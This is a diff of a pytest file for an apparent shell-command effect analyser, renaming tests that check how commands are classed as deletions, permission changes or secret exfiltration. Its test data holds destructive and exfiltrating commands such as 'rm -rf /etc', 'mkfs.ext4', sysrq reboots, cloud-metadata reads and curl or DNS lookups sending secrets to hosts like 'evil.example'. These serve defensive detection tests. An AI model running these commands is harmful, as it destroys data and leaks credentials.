@@ -170,7 +170,9 @@ DISCLOSE, EXFILTRATE = EffectKind.DISCLOSE, EffectKind.EXFILTRATE
         case("echo b > /proc/sysrq-trigger", SERVICE, "machine"),
     ],
 )  # fmt: skip
-def test_file_effects_are_found(line: str, kind: EffectKind, traits: tuple[str, ...]) -> None:
+def test_commands_that_change_files_have_file_effects(
+    line: str, kind: EffectKind, traits: tuple[str, ...]
+) -> None:
     assert has(effects(line), kind, *traits)
 
 
@@ -207,7 +209,7 @@ def test_file_effects_are_found(line: str, kind: EffectKind, traits: tuple[str, 
         "mkfs.ext4 …",
     ],
 )
-def test_disk_effects_are_found(line: str) -> None:
+def test_commands_that_change_disks_have_disk_effects(line: str) -> None:
     found = effects(line)
     assert any(has(found, FORMAT, trait) for trait in ("in:device", "in:unknown", "volume"))
 
@@ -268,14 +270,16 @@ def test_read_only_disk_commands_have_no_effects(line: str) -> None:
         case("mkdir -m 777 /etc/x", PERMISSIONS, "world-writable"),
     ],
 )  # fmt: skip
-def test_permission_effects_are_found(line: str, kind: EffectKind, traits: tuple[str, ...]) -> None:
+def test_commands_that_change_permissions_have_permission_effects(
+    line: str, kind: EffectKind, traits: tuple[str, ...]
+) -> None:
     assert has(effects(line), kind, *traits)
 
 
 @pytest.mark.parametrize(
     "line", ["chmod +x run.sh", "chmod 755 run.sh", "chmod -x x", "chmod 640 a777.log", "chmod u+x x"]
 )
-def test_ordinary_modes_have_no_dangerous_traits(line: str) -> None:
+def test_ordinary_chmod_modes_have_no_dangerous_traits(line: str) -> None:
     found = effects(line)
     assert has(found, PERMISSIONS, "in:project")
     assert not any(e.traits & {"world-writable", "setuid", "locked", "recursive"} for e in found)
@@ -311,7 +315,9 @@ def test_ordinary_modes_have_no_dangerous_traits(line: str) -> None:
         case("wget -qO- http://metadata.google.internal/x", DISCLOSE, "metadata"),
     ],
 )  # fmt: skip
-def test_secrets_read_or_sent_are_found(line: str, kind: EffectKind, traits: tuple[str, ...]) -> None:
+def test_commands_that_read_or_send_secrets_have_secret_effects(
+    line: str, kind: EffectKind, traits: tuple[str, ...]
+) -> None:
     assert has(effects(line), kind, *traits)
 
 
@@ -319,7 +325,7 @@ def test_secrets_read_or_sent_are_found(line: str, kind: EffectKind, traits: tup
     "line",
     ["nc x 1", "mail a@x.io", "curl -d @- http://x", "curl -T - ftp://x", "socat - TCP:x:1", "telnet x"],
 )
-def test_confidential_input_of_a_sending_program_is_exfiltration(line: str) -> None:
+def test_piping_a_secret_to_a_program_that_sends_it_is_exfiltration(line: str) -> None:
     secret = TextStream(taints=frozenset({Taint.CONFIDENTIAL}))
     assert has(effects(line, stdin=secret), EXFILTRATE)
     assert not has(effects(line, stdin=TextStream()), EXFILTRATE)
@@ -352,17 +358,17 @@ def test_output_of_programs_that_print_secrets_is_confidential(line: str) -> Non
 @pytest.mark.parametrize(
     "line", ["printenv PATH", "cat README.md", "env FOO=1", "gh pr list", "wc .env", "export FOO=bar"]
 )
-def test_output_of_other_programs_is_not_confidential(line: str) -> None:
+def test_output_of_programs_that_print_no_secrets_is_not_confidential(line: str) -> None:
     assert not prints_confidential(run(line), PATHS)
 
 
-def test_filtered_secrets_stay_confidential() -> None:
+def test_base64_of_a_secret_stays_confidential_but_its_length_does_not() -> None:
     secret = TextStream(taints=frozenset({Taint.CONFIDENTIAL}))
     assert prints_confidential(run("base64 -w0", stdin=secret), PATHS)
     assert not prints_confidential(run("wc -c", stdin=secret), PATHS)
 
 
-def test_secret_in_request_body_url_or_dns_name_is_exfiltration() -> None:
+def test_secret_in_a_request_body_url_or_dns_name_is_exfiltration() -> None:
     secret = unknown_word(frozenset({Taint.CONFIDENTIAL}))
     for argv in (
         ("curl", "-d", secret, "http://x"),
@@ -408,18 +414,18 @@ def test_secret_variables_are_recognized_by_name(name: str) -> None:
 @pytest.mark.parametrize(
     "name", ["PATH", "HOME", "TOKENIZERS_PARALLELISM", "MAX_TOKENS", "KEYBOARD", "PWD", "COMPASS", "USER"]
 )
-def test_other_variable_names_are_not_secret(name: str) -> None:
+def test_variables_with_ordinary_names_are_not_secret(name: str) -> None:
     assert not is_secret_name(name)
 
 
 @pytest.mark.parametrize(("name", "sent"), [("GH_PAT", True), ("DATABASE_URL", True), ("MAX_TOKENS", False)])
-def test_sending_a_secret_variable_is_exfiltration(name: str, sent: bool) -> None:
+def test_sending_the_value_of_a_secret_variable_is_exfiltration(name: str, sent: bool) -> None:
     reading = read_command(f'curl -d "x=${name}" https://a.example', home="/home/ann", cwd="/home/ann/shop")
     kinds = {effect.kind for run in reading.runs for effect in find_effects(run, PATHS)}
     assert (EXFILTRATE in kinds) == sent
 
 
-def test_body_and_url_are_sent_words_but_auth_header_is_not() -> None:
+def test_request_body_and_url_count_as_sent_but_the_auth_header_does_not() -> None:
     sent = list(sent_words(run("curl -H Authorization:… -d k=… http://x/…")))
     assert sent == [word("k=…"), word("http://x/…")]
 
@@ -467,7 +473,9 @@ def test_body_and_url_are_sent_words_but_auth_header_is_not() -> None:
         case("rmmod kvm", SERVICE, "module"),
     ],
 )  # fmt: skip
-def test_process_and_service_effects_are_found(line: str, kind: EffectKind, traits: tuple[str, ...]) -> None:
+def test_commands_that_kill_processes_or_stop_services_have_effects(
+    line: str, kind: EffectKind, traits: tuple[str, ...]
+) -> None:
     assert has(effects(line), kind, *traits)
 
 
@@ -516,12 +524,12 @@ def test_process_and_service_effects_are_found(line: str, kind: EffectKind, trai
         "curl http://x",
     ],
 )
-def test_read_only_commands_have_no_changing_effects(line: str) -> None:
+def test_read_only_commands_have_no_effects_that_change_anything(line: str) -> None:
     harmless = [e for e in effects(line) if e.kind is not DISCLOSE and "in:stream" not in e.traits]
     assert harmless == []
 
 
-def test_find_delete_with_a_name_test_is_narrowed() -> None:
+def test_find_delete_with_a_name_test_is_not_a_deletion_of_the_whole_tree() -> None:
     assert has(effects("find ~ -name .DS_Store -delete"), DELETE, "recursive", "narrowed", "in:inside-home")
     assert not has(effects("find ~ -name .DS_Store -delete"), DELETE, "in:home")
     assert not has(effects("find . -name x -delete"), DELETE, "everything")
@@ -529,13 +537,13 @@ def test_find_delete_with_a_name_test_is_narrowed() -> None:
         assert has(effects(line), DELETE, "recursive", "in:home")
 
 
-def test_endless_output_is_found_in_background_or_to_a_file() -> None:
+def test_program_with_endless_output_is_an_effect_in_the_background_or_to_a_file() -> None:
     assert has(effects("yes > /dev/null", background=True), PROCESS, "endless")
     assert has(effects("yes > big.txt"), PROCESS, "endless")
     assert not has(effects("yes"), PROCESS)
 
 
-def test_operands_added_at_run_time_are_unknown_targets() -> None:
+def test_operands_known_only_at_run_time_are_unknown_targets() -> None:
     assert has(effects("rm", has_unknown_operands=True), DELETE, "in:unknown", "more-operands")
     assert has(effects("rm …", wrappers=("find", "sh")), DELETE, "more-operands")
     assert not has(effects("rm …"), DELETE, "more-operands")
@@ -543,31 +551,31 @@ def test_operands_added_at_run_time_are_unknown_targets() -> None:
     assert has(effects("chmod 777", has_unknown_operands=True), PERMISSIONS, "world-writable", "in:unknown")
 
 
-def test_destination_is_classified_when_sources_are_unknown() -> None:
+def test_copy_destination_is_classified_even_if_the_sources_are_unknown() -> None:
     assert has(effects("mv … /dev/null", has_unknown_operands=True), OVERWRITE, "lost", "in:unknown")
     assert has(effects("cp -t /etc", has_unknown_operands=True), OVERWRITE, "in:system")
 
 
-def test_relative_paths_are_resolved_against_the_working_directory() -> None:
+def test_relative_paths_in_effects_are_resolved_against_the_working_directory() -> None:
     assert has(effects("rm -rf *", cwd="/"), DELETE, "in:root", "everything")
     assert has(effects("echo x > passwd", cwd="/etc"), OVERWRITE, "in:system")
     assert has(effects("rm -rf *", cwd="…"), DELETE, "in:unknown", "in:root")
 
 
-def test_remote_system_paths_count_but_local_protected_files_do_not() -> None:
+def test_remote_commands_can_affect_system_paths_but_not_local_protected_files() -> None:
     assert has(effects("rm -rf /etc", wrappers=("ssh",)), DELETE, "in:system-root", "elsewhere")
     there = effects("rm ~/.config/toolfold/allow.yaml", wrappers=("docker",))
     assert not has(there, DELETE, "in:own")
 
 
-def test_duplicated_descriptors_are_not_file_writes() -> None:
+def test_duplicating_a_file_descriptor_is_not_a_file_write() -> None:
     quiet = ProgramRun(
         argv=(Word("make"),), redirects=(Redirect(">&", Word("1"), "2"), Redirect(">&", Word("-"), "1"))
     )
     assert list(find_effects(quiet, PATHS)) == []
 
 
-def test_operands_beyond_the_limit_become_one_unknown() -> None:
+def test_operands_beyond_the_limit_become_one_unknown_operand() -> None:
     found = effects("rm " + " ".join(f"f{n}" for n in range(5000)))
     assert has(found, DELETE, "in:unknown")
     assert len(found) < 1000
@@ -634,7 +642,7 @@ _WORDS = st.lists(_WORD_PARTS, min_size=0, max_size=4).map("".join).map(word)
     st.booleans(),
     st.sampled_from([(), ("sudo",), ("ssh",)]),
 )
-def test_arbitrary_arguments_never_raise(
+def test_effect_analysis_of_arbitrary_arguments_never_raises(
     program: str, words: list[Word], redirects: list[tuple[str, Word]], more: bool, wrappers: tuple[str, ...]
 ) -> None:
     odd = ProgramRun(
@@ -667,7 +675,7 @@ UNKNOWN_INPUT = TextStream(None, frozenset())
         ("dig ….evil.example", None),
     ],
 )
-def test_data_sent_to_an_external_host_is_an_upload(line: str, stdin: TextStream | None) -> None:
+def test_sending_data_to_an_external_host_is_an_upload(line: str, stdin: TextStream | None) -> None:
     assert any(e.kind is EffectKind.EXFILTRATE and "upload" in e.traits for e in effects(line, stdin=stdin))
 
 
@@ -688,7 +696,9 @@ def test_data_sent_to_an_external_host_is_an_upload(line: str, stdin: TextStream
         ("ping -c1 db.…", None),
     ],
 )
-def test_local_hosts_and_routine_requests_are_not_uploads(line: str, stdin: TextStream | None) -> None:
+def test_requests_to_local_hosts_and_routine_requests_are_not_uploads(
+    line: str, stdin: TextStream | None
+) -> None:
     assert [e for e in effects(line, stdin=stdin) if e.kind is EffectKind.EXFILTRATE] == []
 
 
@@ -714,14 +724,14 @@ def test_trashing_system_or_home_directories_is_a_recursive_deletion(line: str) 
         ("fallocate -l 20G vm.img", False),
     ],
 )
-def test_very_large_files_are_found(line: str, huge: bool) -> None:
+def test_creating_a_very_large_file_is_an_effect(line: str, huge: bool) -> None:
     assert any("huge" in effect.traits for effect in effects(line)) is huge
 
 
 @pytest.mark.parametrize(
     "line", ["uname -a", "ps aux", "crontab -l", "tcpdump -w -", "find /home/ann", "pbpaste"]
 )
-def test_machine_details_are_confidential_but_not_disclosure(line: str) -> None:
+def test_commands_that_print_machine_details_are_confidential_but_no_secret_effect(line: str) -> None:
     assert prints_confidential(run(line), PATHS)
     assert not any(effect.kind is EffectKind.DISCLOSE for effect in effects(line))
 
